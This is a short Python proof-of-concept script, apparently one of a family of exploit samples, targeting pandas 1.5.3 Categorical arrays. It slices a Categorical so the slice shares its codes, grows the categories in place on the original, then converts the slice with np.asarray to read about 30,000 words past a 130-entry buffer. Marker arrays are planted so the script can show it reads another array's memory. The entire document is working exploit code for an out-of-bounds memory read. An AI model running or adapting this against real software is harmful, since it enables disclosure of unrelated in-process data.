# source: pandas 1.5.3 pandas/core/arrays/_mixins.py NDArrayBackedExtensionArray (cat[:] slice shares _ndarray codes without copying) + categorical.py add_categories(inplace=True)/set_categories(rename=True) keep the same codes array; take_nd/__array__ trust codes < len(categories)
# family: shared Categorical codes, categories grown in place on one owner -> out-of-bounds read (take_nd)
# goal: np.asarray(peek) reads 30000 words past a 130-word categories buffer and finds another array's contents (0x5EC12E7C0FFEE)
import numpy as np
import pandas as pd

n0 = 130
span = 30000
cat = pd.Categorical([0] * span, categories=list(range(n0)))
peek = cat[:]
secrets = [np.full(64, 0x5EC12E7C0FFEE) for _ in range(300)]
cat.add_categories(list(range(n0, n0 + span)), inplace=True)
cat[:] = list(range(n0, n0 + span))
print("peek keeps", len(peek.categories), "categories; its codes now reach", peek.codes.max())
leak = np.asarray(peek)
hits = [int(c) for c, w in zip(peek.codes, leak) if w == 0x5EC12E7C0FFEE]
print("first words read past the end of the categories buffer:", leak[:6])
print("secret array's contents read at codes", hits[:5], "...", len(hits), "hits")
